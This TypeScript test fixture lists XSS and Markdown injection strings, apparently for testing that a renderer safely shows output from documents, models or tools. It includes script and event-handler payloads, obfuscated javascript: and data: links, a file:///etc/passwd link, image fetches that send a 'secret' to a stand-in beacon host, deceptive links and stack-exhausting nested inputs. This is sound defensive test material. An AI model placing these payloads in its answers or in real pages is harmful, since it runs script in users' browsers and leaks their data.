/**
 * What a document, a model, a tool or a stored title may say to have script run, something fetched
 * or somebody led astray. Script calls `pwned()`; addresses to fetch begin with `beacon`.
 */
export function injections(beacon: string): readonly string[] {
  const host = new URL(beacon).host;
  return [
    // Script, in HTML that Markdown lets through.
    "<script>pwned()</script>",
    "<script src='BEACON/script.js'></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()><animate onbegin=pwned() attributeName=x /></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href='javascript:pwned()'>x</a>",
    "<form action='BEACON/form'><input name=q autofocus onfocus=pwned()></form>",
    "<button popovertarget=x onclick=pwned()>x</button>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<<script>alert(1)//<</script>",
    "&lt;img src=x onerror=pwned()&gt;",
    "`<img src=x onerror=pwned()>`",
    "```html\n<img src=x onerror=pwned()>\n```",
    '```"><img src=x onerror=pwned()>\ncode\n```',
    "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | [x](javascript:pwned()) |",
    "> <img src=x onerror=pwned()>",
    "- [ ] <img src=x onerror=pwned()>",
    "# <img src=x onerror=pwned()>",
    // Addresses that run script.
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](\u0001javascript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](<javascript:pwned()>)",
    "<javascript:pwned()>",
    "[x][r]\n\n[r]: javascript:pwned()",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    "[x](blob:BEACON/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:BEACON/source)",
    "[x](intent://HOST#Intent;scheme=http;end)",
    "[x](ms-msdt:/id)",
    "[x](//HOST/relative)",
    "[x](/\\HOST/relative)",
    '[x](BEACON/a"onmouseover="pwned()")',
    '[x](BEACON/a "t\\" onmouseover=pwned() x=")',
    "![x](javascript:pwned())",
    "![x](data:image/svg+xml,<svg onload=pwned()>)",
    // Fetches, which carry out what they are told to.
    "![x](BEACON/image?q=secret)",
    "![x][i]\n\n[i]: BEACON/reference",
    "[![x](BEACON/nested)](BEACON/link)",
    "<img src='BEACON/img' srcset='BEACON/srcset 2x'>",
    "<picture><source srcset='BEACON/picture'><img></picture>",
    "<video src='BEACON/video' poster='BEACON/poster' autoplay></video>",
    "<audio src='BEACON/audio' autoplay></audio>",
    "<embed src='BEACON/embed'><object data='BEACON/object'></object>",
    "<link rel=stylesheet href='BEACON/style'><link rel=prefetch href='BEACON/prefetch'>",
    "<style>@import url(BEACON/import); * { background: url(BEACON/background) }</style>",
    "<div style='background:url(BEACON/inline)'>x</div>",
    "<meta http-equiv=refresh content='0;url=BEACON/refresh'>",
    "<base href='BEACON/'>",
    "<iframe src='BEACON/frame'></iframe>",
    "<svg><image href='BEACON/svg' /><use href='BEACON/use#x' /></svg>",
    // Text that lies about where it leads.
    "[https://docs.example.com/safe](BEACON/lie)",
    "[x](https://docs.example.com@HOST/user)",
    "[\u202emoc.elpmaxe.scod](BEACON/bidi)",
    "[1]: BEACON/citation\n\nSee [1].",
    "[1](BEACON/number)",
    "[Source [1]](BEACON/around)",
  ].map((text) => text.replaceAll("BEACON", beacon).replaceAll("HOST", host));
}

/** More nesting than a stack holds: such an answer is shown as it stands. */
export const tooDeep: readonly string[] = [
  `${"> ".repeat(20_000)}deep`,
  `${"- ".repeat(5_000)}deep`,
  `${"*_".repeat(2_000)}deep`,
];
